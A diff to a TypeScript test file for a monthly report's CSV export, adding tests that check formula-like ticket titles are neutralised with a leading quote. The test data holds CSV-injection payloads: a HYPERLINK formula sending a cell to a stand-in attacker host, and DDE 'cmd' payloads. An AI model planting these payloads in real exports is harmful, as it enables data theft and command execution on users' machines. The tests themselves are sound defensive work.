@@ -1,7 +1,7 @@
 import { expect } from 'chai';
 import { PDFParse } from 'pdf-parse';
 import { buildMonthlyReport } from '../domain/build-monthly-report.js';
-import { accountEvents, tickets } from '../domain/report.fixtures.js';
+import { accountEvents, ticketOne, ticketThree, ticketTwo, tickets } from '../domain/report.fixtures.js';
 import { reportFormats } from '../domain/report-issue.js';
 import { renderCsv } from './render-csv.js';
 import { renderHtml } from './render-html.js';
@@ -31,6 +31,29 @@ describe('the CSV rendering', () => {
   it('carries the summary in minutes and h:mm under Portuguese headers', () => {
     expect(csv()).to.include('Resumo\r\nItem;Minutos;Horas (h:mm)\r\nSaldo inicial;440;7:20\r\nCréditos;330;5:30\r\n');
     expect(csv()).to.include('Horas expiradas;80;1:20\r\nSaldo final;0;0:00\r\n');
+  });
+
+  describe('with ticket titles a spreadsheet would run as formulas', () => {
+    /** The first closed ticket's row (t1's), its cells split on the separator outside quotes. */
+    const closedRow = (csv: string) => csv.split('\r\n').find((l) => l.includes(';Encerrado;'))!.match(/("([^"]|"")*"|[^;]*)(;|$)/g)!.map((c) => c.replace(/;$/, ''));
+    const titled = (title: string) => ticketOne.map((e) => (e.type === 'TicketOpened' ? { ...e, data: { ...(e.data as Record<string, unknown>), title } } : e));
+    const csvWith = (title: string) =>
+      renderCsv(buildMonthlyReport({ period: '2027-01', account: accountEvents, tickets: [titled(title), ticketTwo, ticketThree] })).toString('utf8');
+
+    for (const title of ['=HYPERLINK("https://evil.example/?x="&A1,"Abrir")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd', '\t=1+1', '\r=1+1']) {
+      it(`neutralises ${JSON.stringify(title.slice(0, 12))}… with a leading quote`, () => {
+        const cell = closedRow(csvWith(title))[1]!;
+        expect(cell.replace(/^"/, '').startsWith("'"), cell).to.equal(true);
+        expect(cell.replace(/^"|"$/g, '').replaceAll('""', '"')).to.equal(`'${title}`);
+      });
+    }
+
+    it('leaves a signed number alone, not text after the sign', () => {
+      const t1 = (title: string) => closedRow(csvWith(title)).join(';');
+      expect(t1('-20')).to.match(/^[^;]+;-20;/);
+      expect(t1('+5,5')).to.match(/^[^;]+;\+5,5;/);
+      expect(t1('-20 minutos')).to.match(/^[^;]+;'-20 minutos;/);
+    });
   });
 
   it('lists the tickets, their activities and the overage invoice', () => {
